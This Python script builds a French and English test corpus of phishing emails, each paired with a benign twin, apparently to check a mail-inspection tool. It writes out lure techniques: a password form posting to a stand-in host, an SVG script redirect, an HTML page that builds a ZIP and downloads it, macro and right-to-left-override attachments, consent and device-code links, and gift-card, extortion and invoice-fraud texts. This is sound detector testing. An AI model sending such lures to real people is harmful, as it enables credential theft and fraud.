#!/usr/bin/env python3
"""Writes targeted messages, one cue each, and beside each a twin without the cue.

    make.py FOLDER

gives FOLDER/cue-NAME-LANG.eml, FOLDER/twin-NAME-LANG.eml, FOLDER/index.tsv and FOLDER/org.json. Every name is reserved
(RFC 2606) or a provider's own; nothing here runs. A twin is what an honest sender would write in the same words.
"""
import base64
import io
import json
import os
import sys
import zipfile
from email.message import EmailMessage
from pathlib import Path

FIXTURES = Path(__file__).resolve().parents[2] / "crates/observe/src/formats"

ORG = {
    "domains": ["campagne.example"],
    "staff": [
        {"name": "Claire Martin", "address": "claire.martin@campagne.example"},
        {"name": "Hugo Bernard", "address": "hugo.bernard@campagne.example"},
        {"name": "Nadia Roux", "address": "nadia.roux@campagne.example"},
    ],
    "partners": ["imprimeur.example", "journal-partenaire.example"],
    "providers": ["Microsoft 365"],
}

READER = "Claire Martin <claire.martin@campagne.example>"
HUGO = "Hugo Bernard <hugo.bernard@campagne.example>"
PRINTER = "Atelier <atelier@imprimeur.example>"
STRANGER = "Association Lumière <contact@lumiere.test>"
CODE_TO_SITE = "iVBORw0KGgoAAAANSUhEUgAAAIQAAACEAQAAAAB5P74KAAAA3klEQVR42u2WsW1FMQwDTx+/pzfw/mN5A2oCpnhpkiKFlS5xZag4SGdCcIWvp198P3+8UlWL1bWqag04SugDVnLdzxsooYWhNOIAfVT6DWMqj83H7Oa53HIqFDwjNciXeSZJEiN/3q45siUjPOME2SYo0S3nBWVvALP62jMJiYkjDeZ6gdZahm6616AfJ4HIWNd+3rBpmXazR3k+2EDtcDzxDBAF0Cg/SQhWyMRPgVyCxSg/SoQUBSb5oRam6cLTPbZPGrOnnLNREGvoJzjPCvIkP0IY4ut3r/9/wo+VD4HCpSc3M2PqAAAAAElFTkSuQmCC"
CODE_TO_TICKET = "iVBORw0KGgoAAAANSUhEUgAAAHQAAAB0AQAAAAB84SuKAAAApUlEQVR42uWVsXFEQQhDnzzOpf67+x1ABXJygR2aC4+M4I1ArGZVftd+8bc+oJeUKJJy4t3yeNwe9L8BGT9Bvu+TzJt+5M532ELnxq+Ew0o3/wqE+/4hYiRxu//DFlxy07cQYc38n6elFMy4nQM/xZ5x8YlvW4xnbvqAPR164F/5m7ye8DF/qeznnp8n3k1u+gDbxcf5S2w1MBz9pzVzuL8+/P/4AUCXWF5+zVJnAAAAAElFTkSuQmCC"


def zipped(name, data, inner=None):
    """A ZIP with one member; inside another one when `inner` names it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name, (2026, 11, 2, 9, 0, 0)), data)
    return zipped(inner, out.getvalue()) if inner else out.getvalue()


def fixture(name):
    return (FIXTURES / name).read_bytes()


def docx(macro):
    """A document, with macros when asked."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        def add(name, data):
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 2, 9, 0, 0)), data)
        add("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        add("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Programme</w:t></w:r></w:p></w:body></w:document>')
        if macro:
            add("word/vbaProject.bin", fixture("ole/fixtures/vbaProject.bin"))
    return out.getvalue()


def page(href, text):
    return f'<p>{{body}}</p><p><a href="{href}">{text}</a></p>'


def pdf(picture):
    """A document of one page with a picture: a PNG's own pixels, as programs that print put them in."""
    png = base64.b64decode(picture)
    width, height = (int.from_bytes(png[at:at + 4], "big") for at in (16, 20))
    pixels, at = b"", 8
    while at < len(png):
        length = int.from_bytes(png[at:at + 4], "big")
        if png[at + 4:at + 8] == b"IDAT":
            pixels += png[at + 8:at + 8 + length]
        at += 12 + length
    show = f"q {width * 2} 0 0 {height * 2} 72 600 cm /P Do Q".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /P 5 0 R >> >> >>",
        b"<< /Length %d >> stream\n%s\nendstream" % (len(show), show),
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode "
        b"/DecodeParms << /Predictor 15 /Columns %d /BitsPerComponent 1 >> /Length %d >> stream\n%s\nendstream"
        % (width, height, width, len(pixels), pixels),
    ]
    out, places = b"%PDF-1.5\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 6\n0000000000 65535 f \n%strailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (table, len(out))


def attached(name, data, kind="application/octet-stream"):
    return {"attach": (name, data, kind)}


def own(path):
    return f"https://{path}"


def weekly(link):
    """A newsletter of a dozen sites, and one link more."""
    links = [f"https://journal{at}.test/article" for at in range(12)] + [link]
    return "<p>{body}</p>" + "".join(f'<p><a href="{href}">Lire</a></p>' for href in links)


# Somebody without a site, and a link to a name that was bought for a day: less than what is flagged.
SOMEBODY = "Hugo Lambert <hugo.lambert77@gmail.com>"
BOUGHT = page("https://dossier-7.top/", "Ouvrir")

# name: (cue, twin, words in French, words in English). A cue and its twin are what differs between the two messages:
# header fields, a page, an attachment, or other words.
DOC = ("Programme de la semaine", "Bonjour Claire, voici le programme de la semaine. Bonne lecture.",
       "This week's programme", "Hello Claire, here is this week's programme. Enjoy reading.")
ACCOUNT = ("Votre compte", "Bonjour Claire, votre mot de passe change ce mois-ci.",
           "Your account", "Hello Claire, your password changes this month.")
BILL = ("Facture de novembre", "Bonjour Claire, la facture de novembre est prête.",
        "November invoice", "Hello Claire, the November invoice is ready.")

CUES = {
    "partner-name": ({"From": "Journal Partenaire <redaction@lecourrier.test>"},
                     {"From": "Journal Partenaire <redaction@journal-partenaire.example>"}, DOC),
    "staff-local-part": ({"From": "hugo.bernard@courrier.test"}, {"From": "hugo.bernard@campagne.example"}, DOC),
    "name-reversed": ({"From": "BERNARD Hugo (perso) <hb75@gmail.com>"}, {"From": "BERNARD Hugo <hugo.bernard@campagne.example>"}, DOC),
    "typo-sender": ({"From": "Accueil <accueil@campange.example>"}, {"From": "Accueil <accueil@campagne.example>"}, DOC),
    "other-ending": ({"From": "Accueil <accueil@campagne.test>"}, {"From": "Accueil <accueil@campagne.example>"}, DOC),
    "service-sender": ({"From": "Informatique <support@mail-campagne.test>"}, {"From": "Informatique <support@campagne.example>"}, ACCOUNT),
    "provider-sender": ({"From": "Equipe <info@portal-office.test>"}, {"From": "Equipe <info@microsoft.com>"}, ACCOUNT),
    "partner-homoglyph": ({"From": "Atelier <atelier@irnprimeur.example>"}, {"From": PRINTER}, BILL),
    "subdomain-link": ({"html": page("https://webmail.campagne.example.connexion.test/", "Ouvrir")},
                       {"html": page("https://webmail.campagne.example/", "Ouvrir")}, ACCOUNT),
    "service-link": ({"html": page("https://campagne-webmail.test/", "Ouvrir")},
                     {"html": page("https://webmail.campagne.example/", "Ouvrir")}, ACCOUNT),
    "homoglyph-link": ({"html": page("https://xn--imrimeur-6bh.example/", "Ouvrir")},
                       {"html": page("https://imprimeur.example/", "Ouvrir")}, BILL),
    "userinfo-link": ({"html": page("https://portal.office.com@docs.test/a", "Ouvrir")},
                      {"html": page("https://portal.office.com/a", "Ouvrir")}, ACCOUNT),
    "ip-link": ({"html": page("http://203.0.113.7/facture", "Ouvrir")},
                {"html": page("https://lumiere.test/facture", "Ouvrir")}, BILL),
    "decimal-ip-link": ({"html": page("http://3405803783/facture", "Ouvrir")},
                        {"html": page("https://lumiere.test/facture", "Ouvrir")}, BILL),
    "data-link": ({"html": page("data:text/html;base64,PGgxPkNvbm5leGlvbjwvaDE+", "Ouvrir")},
                  {"html": page("https://lumiere.test/doc", "Ouvrir")}, DOC),
    "share-link": ({"html": page("file://192.0.2.9/partage/programme.pdf", "Ouvrir")},
                   {"html": page("https://lumiere.test/programme.pdf", "Ouvrir")}, DOC),
    "link-text": ({"html": page("https://acces-docs.test/login", "https://campagne.sharepoint.com/doc")},
                  {"html": page("https://campagne.sharepoint.com/doc", "https://campagne.sharepoint.com/doc")}, DOC),
    "redirect-base64": ({"html": page("https://www.bing.com/ck/a?!&&p=98&u=a1aHR0cHM6Ly9jb25uZXhpb24udGVzdC9sb2dpbg&ntb=1", "Ouvrir")},
                        {"html": page("https://www.bing.com/search?q=programme", "Ouvrir")}, ACCOUNT),
    "shortened": ({"html": page("https://tinyurl.com/y3abcd", "Ouvrir")}, {"html": page("https://lumiere.test/compte", "Ouvrir")}, ACCOUNT),
    "free-hosting": ({"html": page("https://docs-campagne-7.web.app/", "Ouvrir")}, {"html": page("https://lumiere.test/", "Ouvrir")}, ACCOUNT),
    "reader-in-link": ({"html": page("https://connexion.test/#Y2xhaXJlLm1hcnRpbkBjYW1wYWduZS5leGFtcGxl", "Ouvrir")},
                       {"html": page("https://lumiere.test/#programme", "Ouvrir")}, ACCOUNT),
    "consent": ({"html": page("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=0f&scope=Mail.Read", "Ouvrir")},
                {"html": page("https://login.microsoftonline.com/", "Ouvrir")}, DOC),
    "form-in-body": ({"html": "<p>{body}</p><form action='https://collecte.test/p' method=post><input name=u><input type=password name=p></form>"},
                     {"html": "<p>{body}</p>"}, ACCOUNT),
    "address-in-name": ({"From": '"hugo.bernard@campagne.example" <envoi@courrier.test>'}, {"From": "hugo.bernard@campagne.example"}, DOC),
    "disguised-name": ({"From": "Micro\u200bsoft 3\u200b65 <info@courrier.test>"}, {"From": "Lumière <info@lumiere.test>"}, ACCOUNT),
    "brand-name": ({"From": "Microsoft 365 <notice@courrier.test>"}, {"From": "Microsoft 365 <notice@microsoft.com>"}, ACCOUNT),
    "sender-is-reader": ({"From": "claire.martin@campagne.example <envoi@courrier.test>"}, {"From": STRANGER}, ACCOUNT),
    "reply-outside": ({"From": HUGO, "Reply-To": "Hugo Bernard <hugo.bernard@reponse.test>"}, {"From": HUGO, "Reply-To": HUGO}, BILL),
    "notebook": (attached("programme.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 64), attached("programme.txt", b"Programme", "text/plain"), DOC),
    "macro": (attached("programme.docm", docx(True)), attached("programme.docx", docx(False)), DOC),
    "script-in-zip": (attached("programme.zip", zipped("programme.js", b"var a = 1;")), attached("programme.zip", zipped("programme.csv", b"a;1")), DOC),
    "program-nested": (attached("programme.zip", zipped("programme.exe", b"MZ" + b"\0" * 200, "dossier.zip")),
                       attached("programme.zip", zipped("programme.csv", b"a;1", "dossier.zip")), DOC),
    "remote-desktop": (attached("reunion.rdp", b"full address:s:192.0.2.9\r\nredirectdrives:i:1\r\n"), attached("reunion.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "text/calendar"), DOC),
    "virtual-disk": (attached("photos.vhd", b"conectix" + b"\0" * 504), attached("photos.png", base64.b64decode(CODE_TO_TICKET), "image/png"), DOC),
    "internet-shortcut": (attached("programme.url", b"[InternetShortcut]\r\nURL=file://192.0.2.9/p.exe\r\n"), attached("programme.txt", b"Programme", "text/plain"), DOC),
    "right-to-left-name": (attached("Programme_\u202efdp.scr", b"MZ" + b"\0" * 80), attached("Programme.pdf", fixture("pdf/fixtures/letter.pdf"), "application/pdf"), DOC),
    "double-ending": (attached("programme.pdf.html", b"<html><p>Programme</p></html>", "text/html"), attached("programme.pdf", fixture("pdf/fixtures/letter.pdf"), "application/pdf"), DOC),
    "drawing-with-script": (attached("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>location.href=atob('aHR0cHM6Ly9jb25uZXhpb24udGVzdA==')</script></svg>", "image/svg+xml"),
                            attached("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>", "image/svg+xml"), DOC),
    "page-that-unwraps": (attached("message.html", b"<html><script>document.write(unescape('%3Ch1%3E'))</script></html>", "text/html"),
                          attached("message.html", b"<html><h1>Programme</h1></html>", "text/html"), DOC),
    "page-that-leads-on": (attached("message.html", b"<html><meta http-equiv=refresh content='0;url=https://connexion.test/'></html>", "text/html"),
                           attached("message.html", b"<html><h1>Programme</h1></html>", "text/html"), DOC),
    "page-that-builds": (attached("message.html", b"<html><script>const d=Uint8Array.from(atob('UEsD'),c=>c.charCodeAt(0));const u=URL.createObjectURL(new Blob([d]));const a=document.createElement('a');a.href=u;a.download='p.zip';a.click()</script></html>", "text/html"),
                         attached("message.html", b"<html><h1>Programme</h1></html>", "text/html"), DOC),
    "invitation": (attached("reunion.ics", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:https://campagne-webmail.test/j\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", "text/calendar"),
                   attached("reunion.ics", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:https://webmail.campagne.example/j\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", "text/calendar"), DOC),
    "own-name-from-outside": ({"From": "Accueil <accueil@campagne.example>", "Received": "from mail.obscur.test (mail.obscur.test [203.0.113.9]) by mx.campagne.example (Postfix) with ESMTPS id 4F1; Mon, 02 Nov 2026 09:12:00 +0100"},
                              {"From": "Accueil <accueil@campagne.example>", "Received": "from mail.campagne.example (mail.campagne.example [192.0.2.10]) by mx.campagne.example (Postfix) with ESMTPS id 4F1; Mon, 02 Nov 2026 09:12:00 +0100"}, DOC),
    "partner-by-its-domain": ({"From": "Journal Partenaire <redaction@gmail.com>"}, {"From": "Journal Partenaire <redaction@journal-partenaire.example>"}, BILL),
    "locked-document": (attached("releve.docx", fixture("ole/fixtures/encrypted.docx")), attached("releve.docx", docx(False)), BILL),
    "locked-pdf": (attached("releve.pdf", fixture("pdf/fixtures/encrypted.pdf"), "application/pdf"), attached("releve.pdf", fixture("pdf/fixtures/letter.pdf"), "application/pdf"), BILL),
    "code-in-picture": (attached("mfa.png", base64.b64decode(CODE_TO_SITE), "image/png"), attached("billet.png", base64.b64decode(CODE_TO_TICKET), "image/png"), ACCOUNT),
    "code-in-pdf": (attached("mfa.pdf", pdf(CODE_TO_SITE), "application/pdf"), attached("billet.pdf", pdf(CODE_TO_TICKET), "application/pdf"), ACCOUNT),
    "disguised-link": ({"html": page("https://\U0001d7dc.connexion.test/", "Ouvrir")}, {"html": page("https://lumiere.test/4", "Ouvrir")}, DOC),
    "unseen-selectors": ({"From": "M\U000e0139icrosoft 36\U000e01395 <notice@courrier.test>"}, {"From": STRANGER}, DOC),
    "letters-apart": ({"From": "P a y P a l <notice@courrier.test>"}, {"From": "PayPal <notice@paypal.com>"}, DOC),
    "signed-by-another": ({"html": page("https://courrier.test/a", "Ouvrir") + "<p>© 2026 Microsoft Corporation</p>"},
                          {"html": page("https://courrier.test/a", "Ouvrir") + "<p>© 2026 Association Lumière</p>"}, ACCOUNT),
    "service-from-free-mail": ({"From": "Assistance Comptes <assistance.comptes@gmail.com>"}, {"From": "Assistance Comptes <assistance@lumiere.test>"}, ACCOUNT),
    "answer-to-free-mail": ({"From": STRANGER, "Reply-To": "Lumière <lumiere.dossier@gmail.com>"}, {"From": STRANGER, "Reply-To": STRANGER}, ACCOUNT),
    "prepared-answer": ({"html": page("mailto:dossier77@gmail.com?subject=Dossier%207&body=Oui", "Confirmer")},
                        {"html": page("mailto:contact@lumiere.test?subject=Dossier%207&body=Oui", "Confirmer")}, ACCOUNT),
    "unfilled-blank": ({"html": page("https://courrier.test/a", "Ouvrir") + "<p>{{first_name}}</p>"},
                       {"html": page("https://courrier.test/a", "Ouvrir") + "<p>Claire</p>"}, ACCOUNT),
    "marked-copy": ({"From": SOMEBODY, "html": BOUGHT, "Subject": "kpQ7LnEtk1Z"}, {"From": SOMEBODY, "html": BOUGHT, "Subject": "n° 20261102"}, ACCOUNT),
    "id-of-a-gateway": ({"From": SOMEBODY, "html": BOUGHT, "Message-ID": "<5f0c1a52-7b1e-4e0c-9d2f-0a1b2c3d4e5f@PR1PEPF000000C8.eurprd02.prod.outlook.com>"},
                        {"From": SOMEBODY, "html": BOUGHT}, ACCOUNT),
    "space-in-sender": ({"From": SOMEBODY, "html": BOUGHT, "space": True}, {"From": SOMEBODY, "html": BOUGHT}, ACCOUNT),
    "nobody-named": ({"From": SOMEBODY, "html": BOUGHT, "To": "undisclosed-recipients:;"}, {"From": SOMEBODY, "html": BOUGHT}, ACCOUNT),
    "name-of-another": ({"From": "Hugo Lambert <zkytoto77@gmail.com>", "html": BOUGHT}, {"From": SOMEBODY, "html": BOUGHT}, ACCOUNT),
    "bought-name-for-answers": ({"From": STRANGER, "Reply-To": "Lumière <lumiere@dossier-7.top>"}, {"From": STRANGER, "Reply-To": STRANGER}, ACCOUNT),
    "ending-of-two-labels": ({"html": page("https://dossier7.sa.com/", "Ouvrir")}, {"html": page("https://lumiere.test/", "Ouvrir")}, ACCOUNT),
    "strange-address-in-name": ({"From": '"redaction@lecourrier.test" <envoi@autre.test>', "html": page("https://connexion.test/", "Ouvrir")},
                                {"From": '"redaction@lecourrier.test" <redaction@lecourrier.test>', "html": page("https://connexion.test/", "Ouvrir")}, ACCOUNT),
    "inside-by-free-mail": ({"From": HUGO, "Return-Path": "<envoi.campagne77@gmail.com>"}, {"From": HUGO, "Return-Path": "<hugo.bernard@campagne.example>"}, DOC),
    "shortened-alone": ({"html": page("https://tinyurl.com/y3abcd", "Lire")}, {"html": weekly("https://tinyurl.com/y3abcd")}, ACCOUNT),
    "address-alone": ({"html": page("http://203.0.113.7/facture", "Lire")}, {"html": weekly("http://203.0.113.7/facture")}, BILL),
    "random-capitals": ({"From": "Lumière <PzQzHjP@courrier.test>", "html": page("https://courrier.test/a", "Ouvrir")},
                        {"From": "Lumière <ContactLumiere@courrier.test>", "html": page("https://courrier.test/a", "Ouvrir")},
                        ("Votre compte", "Bonjour Claire, votre mot de passe change dans les 24 heures.",
                         "Your account", "Hello Claire, your password changes within 24 hours.")),
    "message-with-shortcut": ({"attach": ("transmis.eml", b"From: a@lumiere.test\r\nTo: b@lumiere.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=p.lnk\r\nContent-Transfer-Encoding: base64\r\n\r\nTAAAAAEUAgAAAAAAwAAAAAAAAEY=\r\n", "message/rfc822")},
                              {"attach": ("transmis.eml", b"From: a@lumiere.test\r\nTo: b@lumiere.test\r\nSubject: x\r\n\r\nBonjour\r\n", "message/rfc822")}, DOC),
}

# Cues that are words: the two messages differ in them.
WORDS = {
    "device-code": (STRANGER,
        ("Réunion en ligne", "Bonjour Claire, pour rejoindre la réunion, ouvrez https://microsoft.com/devicelogin et saisissez ce code : F7KQ2.", "Bonjour Claire, pour rejoindre la réunion, ouvrez https://teams.microsoft.com/ ce soir."),
        ("Online meeting", "Hello Claire, to join the meeting open https://microsoft.com/devicelogin and enter this device code: F7KQ2.", "Hello Claire, to join the meeting open https://teams.microsoft.com/ tonight.")),
    "new-bank-account": ("Fournitures Lumière <compta@lumiere.test>",
        ("Facture de novembre", "Bonjour, nous avons changé de banque. Merci d'utiliser notre nouvel IBAN pour le virement.", "Bonjour, merci pour votre visite. À bientôt."),
        ("November invoice", "Hello, we changed our bank. Please use the new bank details for the wire transfer.", "Hello, thank you for your visit. See you soon.")),
    "gift-cards": ("Nadia Roux <nadia.roux.direction@outlook.com>",
        ("Service", "Bonjour Claire, je suis en réunion. Achète trois cartes cadeaux et envoie les codes, reste entre nous.", None),
        ("Quick task", "Hello Claire, I am in a meeting. Buy three gift cards and send the codes, keep this between us.", None)),
    "advance-fee": ("Grace Lambert <grace.lambert77@gmail.com>",
        ("Bonjour", "Je suis la veuve Grace. Feu mon mari a laissé 4,5 millions d'euros et je voudrais vous faire don de cette somme. Répondez vite à notaire.dossier77@gmail.com.", "Je suis Grace, de la fondation. Nous avons réuni 4,5 millions d'euros pour les écoles. Merci à toute votre équipe."),
        ("Hello", "I am the widow Grace. My late husband left $4.5 million and I want to donate to you. Write to my notary at notary.file77@gmail.com.", "I am Grace of the foundation. We collected $4.5 million for schools. Thanks to all of your team.")),
    "extortion": ("Hugo Lambert <hugo.lambert77@gmail.com>",
        ("Lisez ceci", "J'ai piraté votre appareil et filmé par votre webcam. Payez 900 euros à bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4.", "Pour la réunion, votre webcam doit être allumée. Le code de la salle est bc1qw508."),
        ("Read this", "I hacked your phone and filmed you through your webcam. Pay 900 dollars to bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4.", "For the meeting, your webcam must be on. The code of the room is bc1qw508.")),
    "lure": ("Hugo Lambert <hugo.lambert77@gmail.com>",
        ("Bonjour", "Des femmes célibataires t'attendent ce soir. Ouvre https://dossier-7.top/", "Des femmes élues t'attendent ce soir. Ouvre https://dossier-7.top/"),
        ("Hello", "Single women wait for you tonight. Open https://dossier-7.top/", "Elected women wait for you tonight. Open https://dossier-7.top/")),
    "offer": ("Hugo Lambert <hugo.lambert77@gmail.com>",
        ("Pour vous", "Une offre exclusive pour vous : https://tinyurl.com/y3abcd", "Un article pour vous : https://tinyurl.com/y3abcd"),
        ("For you", "A free gift for you: https://tinyurl.com/y3abcd", "An article for you: https://tinyurl.com/y3abcd")),
    "number-to-call": ("Service Facturation <facturation@lumiere.test>",
        ("Renouvellement", "Votre abonnement a été renouvelé, facture impayée de 399 euros. Pour annuler, appelez le +33 1 99 00 12 34 sous 24 heures.", "Votre abonnement se termine en mars. Répondez à ce message pour le prolonger."),
        ("Renewal", "Your subscription was renewed, unpaid invoice of 399 dollars. To cancel, call +1 808 555 0199 within 24 hours.", "Your subscription ends in March. Answer this message to renew it.")),
}


def write(folder, name, lang, sender, words, change):
    """One message."""
    subject, body = words
    message = EmailMessage()
    for field in ("Return-Path", "Received"):
        if field in change:
            message[field] = change[field]
    message["Date"] = "Mon, 02 Nov 2026 09:12:00 +0100"
    message["From"] = change.get("From", sender)
    message["To"] = change.get("To", READER)
    message["Subject"] = f"{subject} {change.get('Subject', '')}".strip()
    message["Message-ID"] = change.get("Message-ID", f"<{name}-{lang}@{message['From'].addresses[0].domain}>")
    if "Reply-To" in change:
        message["Reply-To"] = change["Reply-To"]
    message.set_content(body)
    if "html" in change:
        message.add_alternative("<html><body>" + change["html"].replace("{body}", body) + "</body></html>", subtype="html")
    if "attach" in change:
        file, data, kind = change["attach"]
        main, sub = kind.split("/")
        if kind == "message/rfc822":
            # The module writes such parts its own way; as a file they are what mail programs send.
            message.add_attachment(data, maintype="application", subtype="octet-stream", filename=file)
        else:
            message.add_attachment(data, maintype=main, subtype=sub, filename=file)
    written = message.as_bytes()
    if "space" in change:
        # The module writes no such thing; scripts do.
        written = written.replace(b">", b" >", 1)
    (folder / f"{name}-{lang}.eml").write_bytes(written)


def main():
    folder = Path(sys.argv[1])
    os.makedirs(folder, exist_ok=True)
    (folder / "org.json").write_text(json.dumps(ORG, indent=1))
    rows = []
    for name, (cue, twin, words) in CUES.items():
        for lang, text in (("fr", words[:2]), ("en", words[2:])):
            sender = PRINTER if "attach" in cue else STRANGER
            write(folder, f"cue-{name}", lang, sender, text, cue)
            write(folder, f"twin-{name}", lang, sender, text, twin)
            rows.append(f"{name}-{lang}")
    for name, (sender, fr, en) in WORDS.items():
        for lang, (subject, cue, twin) in (("fr", fr), ("en", en)):
            write(folder, f"cue-{name}", lang, sender, (subject, cue), {})
            # Where the sender is the cue, the twin has the same words from the real one.
            honest = {} if twin else {"From": "Nadia Roux <nadia.roux@campagne.example>"}
            write(folder, f"twin-{name}", lang, sender, (subject, twin or cue), honest)
            rows.append(f"{name}-{lang}")
    (folder / "index.tsv").write_text("\n".join(rows) + "\n")


main()
